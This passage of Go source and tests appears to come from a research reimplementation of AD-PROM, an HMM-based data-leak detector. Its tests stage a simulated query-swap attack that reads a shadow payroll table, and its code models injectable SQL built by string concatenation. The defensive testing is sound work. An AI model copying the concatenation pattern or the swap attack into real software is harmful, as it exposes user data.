				t.Errorf("error %v is not ErrInvalid", err)
			}
		})
	}
}

func TestDuplicateFunctionPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("declaring duplicate function did not panic")
		}
	}()
	b := NewBuilder("dup")
	b.Func("f").Block().Ret()
	b.Func("f")
}

func TestCloneIsDeep(t *testing.T) {
	orig := buildSample(t)
	cp := Clone(orig)

	if !reflect.DeepEqual(orig, cp) {
		t.Fatal("clone differs from original")
	}

	// Mutate the copy in every structural dimension and verify the original
	// is untouched.
	m := cp.Functions["main"]
	m.Blocks[2].Stmts = append(m.Blocks[2].Stmts, LibCall{Name: "fwrite"})
	m.Blocks[3].Term = Goto{Target: 0}
	cp.Functions["evil"] = &Function{Name: "evil", Blocks: []*Block{{ID: 0, Term: Return{}}}}

	if len(orig.Functions) != 2 {
		t.Error("adding a function to the clone leaked into the original")
	}
	if got := len(orig.Functions["main"].Blocks[2].Stmts); got != 2 {
		t.Errorf("original body block has %d stmts after clone mutation, want 2", got)
	}
	if _, ok := orig.Functions["main"].Blocks[3].Term.(Return); !ok {
		t.Error("original terminator changed after clone mutation")
	}
}

func TestCallSites(t *testing.T) {
	p := buildSample(t)
	sites := CallSites(p.Functions["main"])
	if len(sites) != 1 {
		t.Fatalf("main has %d call sites, want 1", len(sites))
	}
	got := sites[0]
	if got.Call.Name != "printf" || got.Site.Block != 2 || got.Site.Stmt != 0 {
		t.Errorf("unexpected site %+v", got)
	}
	if got.Site.String() != "main:b2:s0" {
		t.Errorf("Site.String() = %q", got.Site.String())
	}

	all := ProgramCallSites(p)
	if len(all) != 2 {
		t.Fatalf("program has %d call sites, want 2", len(all))
	}
	// FunctionNames sorts, so helper's strlen precedes main's printf.
	if all[0].Call.Name != "strlen" || all[1].Call.Name != "printf" {
		t.Errorf("sites out of order: %v, %v", all[0].Call.Name, all[1].Call.Name)
	}
}

func TestCalleesAndCallNames(t *testing.T) {
	p := buildSample(t)
	if got := Callees(p.Functions["main"]); !reflect.DeepEqual(got, []string{"helper"}) {
		t.Errorf("Callees(main) = %v", got)
	}
	if got := Callees(p.Functions["helper"]); len(got) != 0 {
		t.Errorf("Callees(helper) = %v, want empty", got)
	}
	if got := CallNames(p); !reflect.DeepEqual(got, []string{"printf", "strlen"}) {
		t.Errorf("CallNames = %v", got)
	}
}

func TestVars(t *testing.T) {
	e := Add(Mul(V("a"), V("b")), At(V("row"), V("a")))
	got := Vars(e)
	want := map[string]bool{"a": true, "b": true, "row": true}
	if len(got) != len(want) {
		t.Fatalf("Vars = %v, want keys of %v", got, want)
	}
	for _, n := range got {
		if !want[n] {
			t.Errorf("unexpected var %q", n)
		}
	}
	if vs := Vars(nil); len(vs) != 0 {
		t.Errorf("Vars(nil) = %v, want empty", vs)
	}
}

func TestCatBuildsLeftAssociativeConcat(t *testing.T) {
	e := Cat(S("SELECT * FROM t WHERE id='"), V("acc"), S("'"))
	b1, ok := e.(Bin)
	if !ok || b1.Op != OpCat {
		t.Fatalf("Cat did not build concat: %v", e)
	}
	if _, ok := b1.L.(Bin); !ok {
		t.Errorf("Cat is not left-associative: %v", e)
	}
	if Cat().String() != `""` {
		t.Errorf("empty Cat = %v", Cat())
	}
	if one := Cat(S("x")); one.String() != `"x"` {
		t.Errorf("single Cat = %v", one)
	}
}

func TestStringRendering(t *testing.T) {
	p := buildSample(t)
	dump := Dump(p)
	for _, want := range []string{
		"program sample (entry main)",
		"func helper(x):",
		`printf("%d", i)`,
		"if (i < len) then b2 else b3",
		"n = strlen(x)",
		"return n",
	} {
		if !strings.Contains(dump, want) {
			t.Errorf("Dump missing %q in:\n%s", want, dump)
		}
	}
	if s := (Assign{Dst: "x", Src: I(1)}).String(); s != "x = 1" {
		t.Errorf("Assign.String() = %q", s)
	}
	if s := (UserCall{Dst: "r", Name: "f", Args: []Expr{I(2)}}).String(); s != "r = call f(2)" {
		t.Errorf("UserCall.String() = %q", s)
	}
	if s := Op(99).String(); !strings.Contains(s, "99") {
		t.Errorf("unknown op String() = %q", s)
	}
}
