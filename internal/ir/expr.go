package ir

import (
	"fmt"
	"strings"
)

// Expr is a side-effect-free expression evaluated by the interpreter and
// traversed by the static data-flow analysis.
type Expr interface {
	expr()
	fmt.Stringer
}

// Op enumerates binary operators.
type Op int

// Binary operators. Cat is string concatenation (the strcat/strcpy idiom the
// paper's vulnerable banking program uses to build SQL text).
const (
	OpAdd Op = iota
	OpSub
	OpMul
	OpDiv
	OpMod
	OpCat
	OpEq
	OpNe
	OpLt
	OpLe
	OpGt
	OpGe
	OpAnd
	OpOr
)

var opNames = map[Op]string{
	OpAdd: "+", OpSub: "-", OpMul: "*", OpDiv: "/", OpMod: "%",
	OpCat: "++", OpEq: "==", OpNe: "!=", OpLt: "<", OpLe: "<=",
	OpGt: ">", OpGe: ">=", OpAnd: "&&", OpOr: "||",
}

func (o Op) String() string {
	if s, ok := opNames[o]; ok {
		return s
	}
	return fmt.Sprintf("op(%d)", int(o))
}

// IntLit is an integer literal.
type IntLit struct{ V int64 }

// StrLit is a string literal.
type StrLit struct{ V string }

// Var reads a local variable (or parameter).
type Var struct{ Name string }

// Bin applies a binary operator to two sub-expressions.
type Bin struct {
	Op   Op
	L, R Expr
}

// Index selects element I of row/array value X (e.g. row[i] after
// mysql_fetch_row).
type Index struct {
	X Expr
	I Expr
}

func (IntLit) expr() {}
func (StrLit) expr() {}
func (Var) expr()    {}
func (Bin) expr()    {}
func (Index) expr()  {}

func (e IntLit) String() string { return fmt.Sprintf("%d", e.V) }
func (e StrLit) String() string { return fmt.Sprintf("%q", e.V) }
func (e Var) String() string    { return e.Name }
func (e Bin) String() string    { return fmt.Sprintf("(%s %s %s)", e.L, e.Op, e.R) }
func (e Index) String() string  { return fmt.Sprintf("%s[%s]", e.X, e.I) }

// Convenience constructors used pervasively by program builders. Short names
// keep hand-written dataset programs readable.

// I builds an integer literal.
func I(v int64) Expr { return IntLit{V: v} }

// S builds a string literal.
func S(v string) Expr { return StrLit{V: v} }

// V builds a variable reference.
func V(name string) Expr { return Var{Name: name} }

// Cat concatenates expressions left to right as strings.
func Cat(parts ...Expr) Expr {
	if len(parts) == 0 {
		return S("")
	}
	e := parts[0]
	for _, p := range parts[1:] {
		e = Bin{Op: OpCat, L: e, R: p}
	}
	return e
}

// Add, Sub, Mul, Div, Mod build arithmetic expressions.
func Add(l, r Expr) Expr { return Bin{Op: OpAdd, L: l, R: r} }
func Sub(l, r Expr) Expr { return Bin{Op: OpSub, L: l, R: r} }
func Mul(l, r Expr) Expr { return Bin{Op: OpMul, L: l, R: r} }
func Div(l, r Expr) Expr { return Bin{Op: OpDiv, L: l, R: r} }
func Mod(l, r Expr) Expr { return Bin{Op: OpMod, L: l, R: r} }

// Eq, Ne, Lt, Le, Gt, Ge build comparisons (result 1 or 0).
func Eq(l, r Expr) Expr { return Bin{Op: OpEq, L: l, R: r} }
func Ne(l, r Expr) Expr { return Bin{Op: OpNe, L: l, R: r} }
func Lt(l, r Expr) Expr { return Bin{Op: OpLt, L: l, R: r} }
func Le(l, r Expr) Expr { return Bin{Op: OpLe, L: l, R: r} }
func Gt(l, r Expr) Expr { return Bin{Op: OpGt, L: l, R: r} }
func Ge(l, r Expr) Expr { return Bin{Op: OpGe, L: l, R: r} }

// And and Or build short-circuit boolean expressions.
func And(l, r Expr) Expr { return Bin{Op: OpAnd, L: l, R: r} }
func Or(l, r Expr) Expr  { return Bin{Op: OpOr, L: l, R: r} }

// At indexes a row value: At(V("row"), V("i")) is row[i].
func At(x, i Expr) Expr { return Index{X: x, I: i} }

// Vars returns the set of variable names read by e.
func Vars(e Expr) []string {
	seen := map[string]bool{}
	var walk func(Expr)
	walk = func(e Expr) {
		switch v := e.(type) {
		case Var:
			seen[v.Name] = true
		case Bin:
			walk(v.L)
			walk(v.R)
		case Index:
			walk(v.X)
			walk(v.I)
		}
	}
	if e != nil {
		walk(e)
	}
	names := make([]string, 0, len(seen))
	for n := range seen {
		names = append(names, n)
	}
	return names
}

func exprList(args []Expr) string {
	parts := make([]string, len(args))
	for i, a := range args {
		parts[i] = a.String()
	}
	return strings.Join(parts, ", ")
}
