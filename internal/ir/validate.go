package ir

import (
	"errors"
	"fmt"
)

// ErrInvalid wraps all validation failures so callers can errors.Is against
// a single sentinel.
var ErrInvalid = errors.New("ir: invalid program")

func invalidf(format string, args ...any) error {
	return fmt.Errorf("%w: %s", ErrInvalid, fmt.Sprintf(format, args...))
}

// Validate checks the structural invariants every analysis relies on:
// the entry function exists, every function has at least one block, block IDs
// match slice positions, every block carries a terminator whose targets are
// in range, and every user call targets a declared function with a matching
// arity.
func Validate(p *Program) error {
	if p == nil {
		return invalidf("nil program")
	}
	if p.Name == "" {
		return invalidf("empty program name")
	}
	if p.Func(p.Entry) == nil {
		return invalidf("entry function %q not defined", p.Entry)
	}
	for name, f := range p.Functions {
		if name != f.Name {
			return invalidf("function registered as %q but named %q", name, f.Name)
		}
		if err := validateFunc(p, f); err != nil {
			return err
		}
	}
	return nil
}

func validateFunc(p *Program, f *Function) error {
	if len(f.Blocks) == 0 {
		return invalidf("function %q has no blocks", f.Name)
	}
	for i, blk := range f.Blocks {
		if blk == nil {
			return invalidf("function %q block %d is nil", f.Name, i)
		}
		if blk.ID != i {
			return invalidf("function %q block at index %d has ID %d", f.Name, i, blk.ID)
		}
		if blk.Term == nil {
			return invalidf("function %q block %d has no terminator", f.Name, i)
		}
		for _, succ := range blk.Term.Succs() {
			if succ < 0 || succ >= len(f.Blocks) {
				return invalidf("function %q block %d jumps to unknown block %d", f.Name, i, succ)
			}
		}
		for si, st := range blk.Stmts {
			uc, ok := st.(UserCall)
			if !ok {
				continue
			}
			callee := p.Func(uc.Name)
			if callee == nil {
				return invalidf("function %q block %d stmt %d calls undefined function %q",
					f.Name, i, si, uc.Name)
			}
			if len(uc.Args) != len(callee.Params) {
				return invalidf("function %q block %d stmt %d calls %q with %d args, want %d",
					f.Name, i, si, uc.Name, len(uc.Args), len(callee.Params))
			}
		}
	}
	return nil
}
