// Package baseline implements the two systems the paper compares AD-PROM
// against.
//
// CMarkov (Xu et al. [12]) initialises its HMM from the same static
// call-transition analysis but performs no data-flow analysis: it cannot
// label output statements that carry targeted data and cannot tell apart
// call sequences that differ only in which program path produced them. Here
// that means building the CTMs without DDG labels and training on traces
// whose observation symbols are the plain call names.
//
// Rand-HMM (Guevara et al. [33]) skips static analysis entirely and trains a
// randomly initialised HMM on the traces; see profile.BuildRandom.
package baseline

import (
	"fmt"

	"adprom/internal/collector"
	"adprom/internal/ctm"
	"adprom/internal/ir"
	"adprom/internal/profile"
)

// PlainTrace rewrites a trace to CMarkov's view: observation symbols are the
// plain call names (no _Q labels, no leak origins).
func PlainTrace(tr collector.Trace) collector.Trace {
	out := make(collector.Trace, len(tr))
	for i, c := range tr {
		out[i] = collector.Call{
			Label:  c.Name,
			Name:   c.Name,
			Caller: c.Caller,
			Block:  c.Block,
		}
	}
	return out
}

// PlainTraces maps PlainTrace over a corpus.
func PlainTraces(traces []collector.Trace) []collector.Trace {
	out := make([]collector.Trace, len(traces))
	for i, tr := range traces {
		out[i] = PlainTrace(tr)
	}
	return out
}

// BuildCMarkov trains the CMarkov baseline for prog: CTM-initialised HMM,
// no data-flow labels.
func BuildCMarkov(prog *ir.Program, traces []collector.Trace, opts profile.Options) (*profile.Profile, error) {
	funcs, err := ctm.BuildAll(prog, nil) // nil DDG: no labels
	if err != nil {
		return nil, fmt.Errorf("baseline: cmarkov ctm: %w", err)
	}
	pm, err := ctm.Aggregate(prog, funcs)
	if err != nil {
		return nil, fmt.Errorf("baseline: cmarkov aggregate: %w", err)
	}
	p, err := profile.Build(prog, pm, PlainTraces(traces), opts)
	if err != nil {
		return nil, fmt.Errorf("baseline: cmarkov train: %w", err)
	}
	p.Program = prog.Name + "-cmarkov"
	return p, nil
}

// BuildRandHMM trains the Rand-HMM baseline on the same traces AD-PROM sees.
// nStates ≤ 0 defaults to the trace alphabet size.
func BuildRandHMM(program string, nStates int, traces []collector.Trace, opts profile.Options) (*profile.Profile, error) {
	p, err := profile.BuildRandom(program+"-randhmm", nStates, traces, opts)
	if err != nil {
		return nil, fmt.Errorf("baseline: rand-hmm: %w", err)
	}
	return p, nil
}
