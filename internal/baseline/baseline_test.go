package baseline

import (
	"strings"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
	"adprom/internal/profile"
)

func TestPlainTraceStripsLabelsAndOrigins(t *testing.T) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	sawLabel := false
	for _, tr := range traces {
		plain := PlainTrace(tr)
		if len(plain) != len(tr) {
			t.Fatalf("PlainTrace changed length: %d vs %d", len(plain), len(tr))
		}
		for i, c := range plain {
			if strings.Contains(c.Label, "_Q") {
				t.Fatalf("plain trace kept label %q", c.Label)
			}
			if c.Label != c.Name || c.Origins != nil {
				t.Fatalf("plain call %+v not stripped", c)
			}
			if c.Caller != tr[i].Caller || c.Block != tr[i].Block {
				t.Fatal("plain trace lost context")
			}
			if strings.Contains(tr[i].Label, "_Q") {
				sawLabel = true
			}
		}
	}
	if !sawLabel {
		t.Fatal("test corpus had no labelled calls to strip")
	}
	if got := PlainTraces(traces); len(got) != len(traces) {
		t.Errorf("PlainTraces length %d", len(got))
	}
}

func TestBuildCMarkovHasNoLeakLabels(t *testing.T) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, err := BuildCMarkov(app.Prog, traces, profile.Options{Train: hmm.TrainOptions{MaxIters: 3}})
	if err != nil {
		t.Fatalf("BuildCMarkov: %v", err)
	}
	if len(p.LeakLabels) != 0 {
		t.Errorf("CMarkov profile has leak labels: %v", p.LeakLabels)
	}
	for _, s := range p.Symbols {
		if strings.Contains(s, "_Q") {
			t.Errorf("CMarkov alphabet contains %q", s)
		}
	}
	if !strings.HasSuffix(p.Program, "-cmarkov") {
		t.Errorf("Program = %q", p.Program)
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Errorf("model invalid: %v", err)
	}
}

func TestBuildRandHMM(t *testing.T) {
	app := dataset.AppH()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, err := BuildRandHMM("apph", 10, traces, profile.Options{Seed: 7, Train: hmm.TrainOptions{MaxIters: 3}})
	if err != nil {
		t.Fatalf("BuildRandHMM: %v", err)
	}
	if p.StatesAfter != 10 {
		t.Errorf("states = %d, want 10", p.StatesAfter)
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Errorf("model invalid: %v", err)
	}
}
