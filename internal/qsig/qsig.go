// Package qsig implements the query-signature mitigation the paper proposes
// for its first limitation (§VII): an attacker who knows AD-PROM trains on
// call traces alone can issue a *different* query with similar selectivity —
// the call sequence is unchanged, so the HMM sees nothing. Recording query
// signatures along with library calls closes that gap.
//
// A signature is the query text with every literal normalised away, so the
// same prepared-statement shape matches regardless of parameter values,
// while a query against a different table or column set does not.
package qsig

import (
	"sort"
	"strings"

	"adprom/internal/interp"
)

// Normalize reduces a query to its signature: string literals become '?',
// numeric literals become ?, whitespace collapses, and keywords lower-case.
func Normalize(sql string) string {
	var sb strings.Builder
	i := 0
	lastSpace := true
	for i < len(sql) {
		c := sql[i]
		switch {
		case c == '\'':
			// Skip the string literal ('' escapes included).
			i++
			for i < len(sql) {
				if sql[i] == '\'' {
					if i+1 < len(sql) && sql[i+1] == '\'' {
						i += 2
						continue
					}
					i++
					break
				}
				i++
			}
			sb.WriteString("'?'")
			lastSpace = false
		case c >= '0' && c <= '9':
			for i < len(sql) && sql[i] >= '0' && sql[i] <= '9' {
				i++
			}
			sb.WriteByte('?')
			lastSpace = false
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			if !lastSpace {
				sb.WriteByte(' ')
				lastSpace = true
			}
			i++
		default:
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			sb.WriteByte(c)
			lastSpace = false
			i++
		}
	}
	return strings.TrimSpace(sb.String())
}

// Tables extracts the table names a query touches: the identifiers following
// FROM, JOIN, INTO, and UPDATE in the normalised signature, lower-cased,
// deduplicated, and sorted. It is a lexical scan, not a SQL parser — good
// enough to classify the flat statements application libraries issue, which
// is all the risk model needs.
func Tables(sql string) []string {
	fields := strings.Fields(Normalize(sql))
	seen := map[string]bool{}
	var out []string
	expect := false
	for _, f := range fields {
		switch f {
		case "from", "join", "into", "update":
			expect = true
			continue
		}
		if !expect {
			continue
		}
		expect = false
		// Strip trailing punctuation (commas, parens, semicolons) and a
		// leading paren from subqueries; "(select" yields nothing.
		name := strings.Trim(f, "(),;")
		if name == "" || name == "select" || name == "?" {
			continue
		}
		if !seen[name] {
			seen[name] = true
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}

// maxColumns bounds the identifiers Columns returns, so a hostile query
// with an enormous projection list cannot make feature extraction allocate
// without limit.
const maxColumns = 64

// columnKeywords are select-list tokens that are not column references.
var columnKeywords = map[string]bool{
	"select": true, "distinct": true, "as": true, "all": true,
	"count": true, "sum": true, "avg": true, "min": true, "max": true,
}

// Columns extracts the column identifiers in a query's SELECT projection,
// lower-cased, deduplicated, and sorted. `SELECT *` yields ["*"]. Like
// Tables it is a bounded lexical scan, not a parser: aggregate arguments
// count as columns (sum(balance) yields "balance"), and at most 64 distinct
// identifiers are returned. Non-SELECT statements yield nil.
func Columns(sql string) []string {
	fields := strings.Fields(Normalize(sql))
	if len(fields) == 0 || fields[0] != "select" {
		return nil
	}
	seen := map[string]bool{}
	var out []string
	add := func(name string) {
		if name == "" || name == "?" || name == "'?'" || columnKeywords[name] || seen[name] {
			return
		}
		if len(out) >= maxColumns {
			return
		}
		seen[name] = true
		out = append(out, name)
	}
	inList := false
	for _, f := range fields {
		switch f {
		case "select":
			inList = true
			continue
		case "from":
			inList = false
			continue
		}
		if !inList {
			continue
		}
		if strings.Contains(f, "*") {
			add("*")
			continue
		}
		// Split compound tokens — "count(id)," yields "count" and "id" —
		// and keep the identifier parts.
		for len(f) > 0 {
			cut := strings.IndexAny(f, "(),;")
			var part string
			if cut < 0 {
				part, f = f, ""
			} else {
				part, f = f[:cut], f[cut+1:]
			}
			add(part)
		}
	}
	sort.Strings(out)
	return out
}

// SensitiveTables is a set of table names whose queries mark a session as
// touching sensitive data. Used by the risk-aware shedding tier to keep
// sessions that read protected tables out of the shed pool.
type SensitiveTables map[string]bool

// NewSensitiveTables builds the set from a list of names (case-insensitive).
func NewSensitiveTables(names ...string) SensitiveTables {
	s := make(SensitiveTables, len(names))
	for _, n := range names {
		s[strings.ToLower(strings.TrimSpace(n))] = true
	}
	return s
}

// Touches reports whether the query reads or writes any sensitive table.
func (s SensitiveTables) Touches(sql string) bool {
	if len(s) == 0 {
		return false
	}
	for _, t := range Tables(sql) {
		if s[t] {
			return true
		}
	}
	return false
}

// SensitiveLabels derives the set of call labels that issued a query against
// a sensitive table, from a training run's query log. A label here is the
// issuing origin's function name — the observation symbol the detection
// runtime sees — so the result plugs directly into shed.Config
// SensitiveLabels / detect.Engine.SetSensitiveLabels.
func SensitiveLabels(records []interp.QueryRecord, tables SensitiveTables) map[string]bool {
	out := map[string]bool{}
	for _, r := range records {
		if tables.Touches(r.SQL) {
			out[r.Origin.Func] = true
		}
	}
	return out
}

// Violation is a query whose signature (or issuing site) was never seen in
// training.
type Violation struct {
	Record interp.QueryRecord
	// Signature is the normalised form that failed the check.
	Signature string
	// UnknownSite reports that even the issuing call site is new.
	UnknownSite bool
}

// Auditor learns the signature set of an application's normal queries and
// checks later runs against it.
type Auditor struct {
	// known maps signature → set of issuing origins.
	known map[string]map[interp.Origin]bool
}

// NewAuditor returns an empty auditor.
func NewAuditor() *Auditor {
	return &Auditor{known: map[string]map[interp.Origin]bool{}}
}

// Learn records the signatures of a training run's query log.
func (a *Auditor) Learn(records []interp.QueryRecord) {
	for _, r := range records {
		sig := Normalize(r.SQL)
		set, ok := a.known[sig]
		if !ok {
			set = map[interp.Origin]bool{}
			a.known[sig] = set
		}
		set[r.Origin] = true
	}
}

// Signatures returns the learned signatures, sorted.
func (a *Auditor) Signatures() []string {
	out := make([]string, 0, len(a.known))
	for s := range a.known {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}

// Check returns one Violation per query whose signature was not learned, or
// whose signature is known but was never issued from that call site (a
// reused query in attacker-added code).
func (a *Auditor) Check(records []interp.QueryRecord) []Violation {
	var out []Violation
	for _, r := range records {
		sig := Normalize(r.SQL)
		origins, ok := a.known[sig]
		if !ok {
			out = append(out, Violation{Record: r, Signature: sig, UnknownSite: true})
			continue
		}
		if !origins[r.Origin] {
			out = append(out, Violation{Record: r, Signature: sig})
		}
	}
	return out
}
