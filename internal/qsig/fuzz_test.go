package qsig

import (
	"strings"
	"testing"
)

// FuzzNormalize checks the signature normaliser on arbitrary query text:
// never panics, is idempotent-ish (a normalised signature maps to itself up
// to the '?' placeholders), and is insensitive to literal values.
func FuzzNormalize(f *testing.F) {
	f.Add("SELECT * FROM t WHERE a = 'x' AND b > 42")
	f.Add("INSERT INTO t VALUES ('O''Brien', 3)")
	f.Add("'unterminated")
	f.Add("  WeIrD   CaSe  ")
	f.Fuzz(func(t *testing.T, sql string) {
		sig := Normalize(sql)
		// Stability: normalising a signature must be a fixed point (the
		// placeholder '?' contains no literals to rewrite).
		if again := Normalize(sig); again != sig {
			t.Errorf("Normalize not stable: %q -> %q -> %q", sql, sig, again)
		}
		if strings.Contains(sig, "  ") {
			t.Errorf("unsquashed whitespace in %q", sig)
		}
	})
}
