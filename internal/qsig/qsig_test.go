package qsig

import (
	"reflect"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/interp"
	"adprom/internal/ir"
)

func TestNormalize(t *testing.T) {
	cases := []struct{ in, want string }{
		{"SELECT * FROM clients WHERE id='105'", "select * from clients where id='?'"},
		{"SELECT * FROM clients WHERE id='999'", "select * from clients where id='?'"},
		{"SELECT * FROM clients WHERE id = 105", "select * from clients where id = ?"},
		{"SELECT  name,\n balance FROM t", "select name, balance from t"},
		{"UPDATE t SET a = 'O''Brien' WHERE b > 3", "update t set a = '?' where b > ?"},
		{"", ""},
	}
	for _, tc := range cases {
		if got := Normalize(tc.in); got != tc.want {
			t.Errorf("Normalize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Same shape, different parameters → same signature; different table →
	// different signature.
	a := Normalize("SELECT * FROM items WHERE id = 10")
	b := Normalize("SELECT * FROM items WHERE id = 99")
	c := Normalize("SELECT * FROM secrets WHERE id = 10")
	if a != b {
		t.Errorf("parameter change altered signature: %q vs %q", a, b)
	}
	if a == c {
		t.Errorf("table change did not alter signature: %q", a)
	}
}

func TestAuditorLearnsAndChecks(t *testing.T) {
	o1 := interp.Origin{Func: "lookup", Block: 0}
	o2 := interp.Origin{Func: "report", Block: 2}
	a := NewAuditor()
	a.Learn([]interp.QueryRecord{
		{Origin: o1, SQL: "SELECT * FROM clients WHERE id = 1"},
		{Origin: o1, SQL: "SELECT * FROM clients WHERE id = 2"},
		{Origin: o2, SQL: "SELECT COUNT(*) FROM bills"},
	})
	if got := len(a.Signatures()); got != 2 {
		t.Fatalf("Signatures = %v", a.Signatures())
	}

	// Seen shape from the right site: clean.
	if v := a.Check([]interp.QueryRecord{{Origin: o1, SQL: "SELECT * FROM clients WHERE id = 77"}}); len(v) != 0 {
		t.Errorf("false violation: %+v", v)
	}
	// New shape (§VII's similar-selectivity attack): flagged with
	// UnknownSite semantics for the signature.
	v := a.Check([]interp.QueryRecord{{Origin: o1, SQL: "SELECT * FROM payroll WHERE id = 1"}})
	if len(v) != 1 || !v[0].UnknownSite {
		t.Errorf("new table not flagged: %+v", v)
	}
	// Known shape from a foreign site: flagged, site-level.
	v = a.Check([]interp.QueryRecord{{Origin: o2, SQL: "SELECT * FROM clients WHERE id = 1"}})
	if len(v) != 1 || v[0].UnknownSite {
		t.Errorf("reused query from foreign site not flagged correctly: %+v", v)
	}
}

// TestSameSelectivityAttackCaught stages the paper's §VII blind spot against
// the banking app: the attacker swaps the lookup query for one of identical
// shape and selectivity over a different table. The call trace is identical
// — the HMM is blind — but the signature auditor flags it.
func TestSameSelectivityAttackCaught(t *testing.T) {
	app := dataset.AppB()

	runQueries := func(prog *ir.Program, input ...string) ([]interp.QueryRecord, collector.Trace) {
		world := interp.NewWorld(app.FreshDB())
		// The attacker's shadow table mirrors clients row for row, so the
		// result cardinality (and hence the call sequence) is unchanged.
		world.DB.MustExec("CREATE TABLE payroll (id INT, name TEXT, salary INT)")
		for i := 1; i <= 25; i++ {
			world.DB.MustExec("INSERT INTO payroll VALUES (" +
				itoa(100+i) + ", 'emp', " + itoa(i*1000) + ")")
		}
		ip := interp.New(prog, world, interp.Options{})
		col := collector.New(collector.ModeADPROM, nil)
		ip.AddHook(col.Hook())
		if _, err := ip.Run(input...); err != nil {
			t.Fatal(err)
		}
		return world.Queries, col.Trace()
	}

	// Train the auditor on normal lookups.
	auditor := NewAuditor()
	normalQ, normalTrace := runQueries(app.Prog, "1", "105")
	auditor.Learn(normalQ)

	// The attacker edits the query string only: same WHERE shape, other
	// table. (lookupAccount builds the query in block 0, statement 0.)
	evil := ir.Clone(app.Prog)
	blk := evil.Func("lookupAccount").Blocks[0]
	lc := blk.Stmts[0].(ir.LibCall)
	lc.Args = []ir.Expr{ir.S("SELECT * FROM payroll WHERE id='")}
	blk.Stmts[0] = lc

	evilQ, evilTrace := runQueries(evil, "1", "105")

	// The blind spot: the call-label sequences really are identical.
	if !reflect.DeepEqual(normalTrace.Labels(), evilTrace.Labels()) {
		t.Fatalf("traces differ — the attack is not selectivity-preserving:\n%v\n%v",
			normalTrace.Labels(), evilTrace.Labels())
	}
	// The mitigation: the signature auditor catches it.
	v := auditor.Check(evilQ)
	if len(v) == 0 {
		t.Fatal("auditor missed the same-selectivity query swap")
	}
	if v[0].Signature == Normalize(normalQ[0].SQL) {
		t.Errorf("violation signature equals the trained one")
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

func TestTables(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"SELECT * FROM clients WHERE id = 10", []string{"clients"}},
		{"select name from Clients", []string{"clients"}},
		{"INSERT INTO audit_log VALUES (1, 'x')", []string{"audit_log"}},
		{"UPDATE accounts SET balance = 0", []string{"accounts"}},
		{"SELECT a.x, b.y FROM accounts a JOIN clients b ON a.id = b.id",
			[]string{"accounts", "clients"}},
		{"SELECT * FROM alpha, beta WHERE 1 = 1", []string{"alpha"}}, // lexical scan: only the first FROM identifier
		{"SELECT * FROM (SELECT * FROM inner_t) WHERE x = 1", []string{"inner_t"}},
		{"SELECT 1", nil},
		{"", nil},
	}
	for _, tc := range cases {
		if got := Tables(tc.in); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("Tables(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func TestSensitiveTablesTouches(t *testing.T) {
	s := NewSensitiveTables(" Patients ", "salaries")
	if !s.Touches("SELECT * FROM patients WHERE id = 3") {
		t.Error("case-insensitive sensitive table not detected")
	}
	if !s.Touches("SELECT a.x FROM visits a JOIN salaries b ON a.id = b.id") {
		t.Error("sensitive join partner not detected")
	}
	if s.Touches("SELECT * FROM visits") {
		t.Error("non-sensitive table flagged")
	}
	if (SensitiveTables{}).Touches("SELECT * FROM patients") {
		t.Error("empty set must never match")
	}
}

func TestSensitiveLabels(t *testing.T) {
	records := []interp.QueryRecord{
		{Origin: interp.Origin{Func: "report", Block: 1}, SQL: "SELECT * FROM patients WHERE id = 1"},
		{Origin: interp.Origin{Func: "report", Block: 2}, SQL: "SELECT * FROM patients WHERE id = 2"},
		{Origin: interp.Origin{Func: "lookup", Block: 0}, SQL: "SELECT * FROM visits WHERE id = 3"},
	}
	got := SensitiveLabels(records, NewSensitiveTables("patients"))
	want := map[string]bool{"report": true}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("SensitiveLabels = %v, want %v", got, want)
	}
}
