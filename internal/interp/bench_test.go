package interp

import (
	"fmt"
	"testing"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// BenchmarkRunFigure1 measures end-to-end execution of the Figure 1 client
// (connect, query, loop, print) with an attached no-op hook — the unit the
// Table VI overhead comparison multiplies.
func BenchmarkRunFigure1(b *testing.B) {
	db := minidb.New()
	db.MustExec("CREATE TABLE items (id INT, name TEXT)")
	for i := 0; i < 20; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO items VALUES (%d, 'x%d')", i, i))
	}
	bd := ir.NewBuilder("bench")
	m := bd.Func("main")
	e := m.Block()
	loop := m.Block()
	body := m.Block()
	done := m.Block()
	e.CallTo("conn", "PQconnectdb")
	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT * FROM items"))
	e.CallTo("n", "PQntuples", ir.V("res"))
	e.Assign("i", ir.I(0))
	e.Goto(loop)
	loop.If(ir.Lt(ir.V("i"), ir.V("n")), body, done)
	body.CallTo("v", "PQgetvalue", ir.V("res"), ir.V("i"), ir.I(1))
	body.Call("printf", ir.S("%s"), ir.V("v"))
	body.Assign("i", ir.Add(ir.V("i"), ir.I(1)))
	body.Goto(loop)
	done.Ret()
	prog := bd.MustBuild()

	world := NewWorld(db)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		world.ResetIO()
		ip := New(prog, world, Options{})
		ip.AddHook(func(*Event) {})
